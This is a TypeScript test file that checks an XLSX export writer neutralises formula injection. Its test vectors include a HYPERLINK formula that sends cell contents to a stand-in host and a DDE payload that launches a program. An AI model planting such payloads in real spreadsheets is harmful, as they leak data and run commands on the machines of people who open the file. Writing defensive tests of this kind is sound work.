// IN-1 for XLSX: a valid stored ZIP, no <f> element anywhere, every text cell an inline string,
// formula-like text marked with Excel's quote prefix, numbers as numeric cells.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { exportMap } from '../../../shared/exchange/export-map';
import { number, text } from '../../../shared/exchange/export-table';
import { columnLetters, tableToXlsx } from '../../../shared/exchange/export-xlsx';
import { crc32 } from '../../../shared/exchange/crc32';
import { readStoredZip, sampleMap, textOf, TODAY } from './export-fixtures';

const VECTORS = ['=HYPERLINK("http://x/?"&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', ' =1', 'a "b", c\nd', 'plain'];

interface Cell {
  readonly ref: string;
  readonly type: string | undefined;
  readonly style: string | undefined;
  readonly value: string;
}

/** The sheet's cells as an independent XML parser sees them. */
function sheetCells(sheetXml: string): Cell[] {
  const parser = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', trimValues: false, parseTagValue: false, htmlEntities: true, isArray: (name) => name === 'row' || name === 'c' });
  const doc = parser.parse(sheetXml) as { worksheet: { sheetData: { row: { c: Record<string, unknown>[] }[] } } };
  return doc.worksheet.sheetData.row.flatMap((row) =>
    row.c.map((c) => {
      const inline = c.is as { t: string | { '#text': string } } | undefined;
      const t = inline?.t;
      const value = inline ? (typeof t === 'string' ? t : (t?.['#text'] ?? '')) : String(c.v);
      return { ref: String(c.r), type: c.t as string | undefined, style: c.s as string | undefined, value };
    }),
  );
}

describe('XLSX writer', () => {
  const bytes = tableToXlsx({ columns: [text('value'), number('score')], rows: VECTORS.map((v, i) => [v, i / 4]) }, 'Vectors');
  const files = readStoredZip(bytes);
  const sheet = textOf(files.get('xl/worksheets/sheet1.xml')!);

  it('is a ZIP with the parts Excel needs and correct checksums', () => {
    expect([...files.keys()].sort()).toEqual(['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml']);
    expect(crc32(new TextEncoder().encode('123456789'))).toBe(0xcbf43926);
  });

  it('writes no formula element and keeps every text cell an inline string', () => {
    for (const [name, data] of files) expect(textOf(data), name).not.toMatch(/<f[\s>]/);
    const cells = sheetCells(sheet);
    const textCells = cells.filter((c) => c.ref.startsWith('A'));
    expect(textCells.every((c) => c.type === 'inlineStr')).toBe(true);
    expect(textCells.slice(1).map((c) => c.value)).toEqual(VECTORS);
  });

  it('marks formula-like text with the quote-prefix style, and only that text', () => {
    const styles = textOf(files.get('xl/styles.xml')!);
    expect(styles).toMatch(/<cellXfs count="3"><xf [^>]*\/><xf [^>]*quotePrefix="1"\/>/);
    const body = sheetCells(sheet).filter((c) => c.ref.startsWith('A') && c.ref !== 'A1');
    expect(body.map((c) => c.style === '1')).toEqual(VECTORS.map((v) => !['a "b", c\nd', 'plain'].includes(v)));
  });

  it('writes numbers as numeric cells', () => {
    const numbers = sheetCells(sheet).filter((c) => c.ref.startsWith('B') && c.ref !== 'B1');
    expect(numbers.every((c) => c.type === undefined)).toBe(true);
    expect(numbers.map((c) => Number(c.value))).toEqual(VECTORS.map((_, i) => i / 4));
  });

  it('names columns past Z the way Excel does', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
  });

  it('passes the system unzip integrity test when unzip is installed', (ctx) => {
    let version = '';
    try {
      version = execFileSync('unzip', ['-v'], { encoding: 'utf8' });
    } catch {
      ctx.skip();
    }
    expect(version).toContain('UnZip');
    const dir = mkdtempSync(path.join(tmpdir(), 'xlsx-'));
    try {
      const file = path.join(dir, 'vectors.xlsx');
      writeFileSync(file, bytes);
      expect(execFileSync('unzip', ['-t', file], { encoding: 'utf8' })).toContain('No errors detected');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('XLSX lists of the sample coalition', () => {
  it('holds the recruitment list with the same rows as the CSV export', () => {
    const options = { includeConfidential: false, includeSensitive: false, today: TODAY, list: 'recruitment' as const };
    const xlsx = exportMap(sampleMap(), { ...options, format: 'xlsx' });
    const csv = exportMap(sampleMap(), { ...options, format: 'csv' });
    expect(xlsx.records).toBe(csv.records);
    expect(xlsx.omitted).toEqual(csv.omitted);
    const cells = sheetCells(textOf(readStoredZip(xlsx.bytes).get('xl/worksheets/sheet1.xml')!));
    expect(cells.filter((c) => /^[A-Z]+1$/.test(c.ref)).map((c) => c.value)).toEqual([
      'category', 'name', 'organization', 'contact', 'suggested_introducer', 'path', 'reason', 'stage', 'ties_away',
    ]);
    expect(cells.find((c) => c.ref === 'B2')?.value).toBe('Harlow Bend City Council');
  });
});
